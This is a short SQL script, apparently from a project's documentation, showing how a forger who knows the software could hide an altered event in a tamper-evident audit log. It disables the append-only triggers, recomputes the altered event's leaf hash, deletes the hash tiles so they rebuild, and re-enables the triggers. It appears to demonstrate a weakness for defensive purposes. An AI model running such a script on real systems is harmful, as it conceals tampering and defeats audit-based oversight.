-- The next step of a forger who knows the software: recompute the hash of the altered event, and delete all tiles.
-- Any worker without the signing key then builds the tiles again, from the new hashes.
--
--   psql -f docs/files/hide-alteration.sql

BEGIN;
ALTER TABLE pgaudit.audit_log DISABLE TRIGGER append_only;
ALTER TABLE pgaudit.tile DISABLE TRIGGER reject_direct_write;
UPDATE pgaudit.audit_log SET leaf_hash = sha256('\x00'::bytea || convert_to(event::text, 'UTF8')) WHERE index = 7;
DELETE FROM pgaudit.tile;
ALTER TABLE pgaudit.audit_log ENABLE ALWAYS TRIGGER append_only;
ALTER TABLE pgaudit.tile ENABLE ALWAYS TRIGGER reject_direct_write;
COMMIT;
